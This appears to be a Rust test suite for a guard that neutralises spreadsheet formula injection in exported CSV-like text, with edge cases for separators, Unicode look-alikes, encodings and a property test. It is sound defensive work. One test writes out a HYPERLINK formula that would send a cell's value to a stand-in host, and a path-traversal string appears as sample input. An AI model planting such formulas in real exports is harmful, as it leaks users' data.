//! What the guard does to a text, wherever a program might begin a cell in it.

use crate::report::guard::guarded;
use proptest::prelude::*;

/// What a spreadsheet takes as the beginning of a formula.
pub(super) const STARTERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// What some programs take away before they look.
const CONTROLS: [char; 4] = ['\t', '\r', '\n', '\0'];
const SEPARATORS: [char; 3] = [',', ';', '\t'];

fn guard(text: &str) -> String {
    String::from_utf8_lossy(&guarded(text.as_bytes())).into_owned()
}

#[test]
fn a_starter_is_guarded_wherever_a_cell_could_begin() {
    for starter in STARTERS.into_iter().chain(CONTROLS) {
        assert_eq!(guard(&format!("{starter}1+1")), format!("'{starter}1+1"));
        for separator in SEPARATORS {
            let text = format!("a{separator}{starter}1");
            assert_eq!(guard(&text), format!("a{separator}'{starter}1"), "{text:?}");
        }
    }
    for starter in STARTERS {
        for between in [" ", "\"", " \"", "\u{A0}", "“", "\u{200B}", "\"\" ", "«", "\u{7F}"] {
            let text = format!("{between}{starter}1");
            assert_eq!(guard(&text), format!("'{between}{starter}1"));
            for separator in SEPARATORS {
                let text = format!("a{separator}{between}{starter}1");
                assert_eq!(guard(&text), format!("a{separator}'{between}{starter}1"), "{text:?}");
            }
            for line_end in ["\r", "\n", "\r\n"] {
                let text = format!("a{line_end}{between}{starter}1");
                assert_eq!(guard(&text), format!("a{line_end}'{between}{starter}1"), "{text:?}");
            }
        }
    }
}

#[test]
fn the_contracts_examples() {
    let reason = "late;=HYPERLINK(\"http://x/?\"&A1);z";
    assert_eq!(guard(reason), "late;'=HYPERLINK(\"http://x/?\"&A1);z");
    assert_eq!(guard("x\";=1+1"), "x\";'=1+1");
    assert_eq!(guard("A1,-5,inr\r\n=2"), "A1,'-5,inr\r\n'=2");
    assert_eq!(guard("A1\n\n=2"), "A1\n'\n'=2", "a program may take blank lines away");
    assert_eq!(guard(";;=1"), ";;'=1");
    assert_eq!(guard("; ,=1"), "; ,'=1");
    assert_eq!(guard("\t=1"), "'\t'=1");
}

#[test]
fn bytes_of_another_encoding_hide_nothing() {
    assert_eq!(guarded(b";\xA0=1"), b";'\xA0=1");
    assert_eq!(guarded(b"\x93=1\x94"), b"'\x93=1\x94");
    assert_eq!(guarded(b"A\xFF,1"), b"A\xFF,1");
}

#[test]
fn harmless_texts_are_unchanged() {
    for text in [
        "",
        "'quoted'",
        "'=1",
        "a=b",
        "١٢",
        "../../etc/passwd",
        "a;b",
        "a, b",
        "a; 'b",
        "2026-11-20",
        "a\r\nb",
        "\"upi\"",
        "a,",
        ";",
        "the status is \"failed\": -",
        "x - y",
        "m-0f3a",
        "'",
        ";'=1",
    ] {
        assert_eq!(guard(text), text);
    }
}

#[test]
fn a_long_row_takes_one_pass() {
    for part in ["\t", "\n ", ";\"", " ", ";=", "\r"] {
        let text = part.repeat(500_000);
        assert!(guarded(text.as_bytes()).len() >= text.len());
    }
}

proptest! {
    /// Neither cutting at a separator nor taking away what stands before leaves a starter first.
    #[test]
    fn no_piece_begins_with_a_starter(text in "[=+@,;\t\r\n \"'a“＝-]{0,20}") {
        let guarded = guard(&text);
        let pieces = guarded.split([',', ';', '\t', '\r', '\n']);
        for piece in pieces {
            let shown = piece.trim_start_matches([' ', '"', '“']);
            prop_assert!(!shown.starts_with(STARTERS), "{piece:?} of {guarded:?}");
        }
        prop_assert_eq!(guard(&guarded), guarded.clone(), "guarded twice");
        let without = |text: &str| text.replace('\'', "");
        prop_assert_eq!(without(&guarded), without(&text), "only guards are added");
    }
}
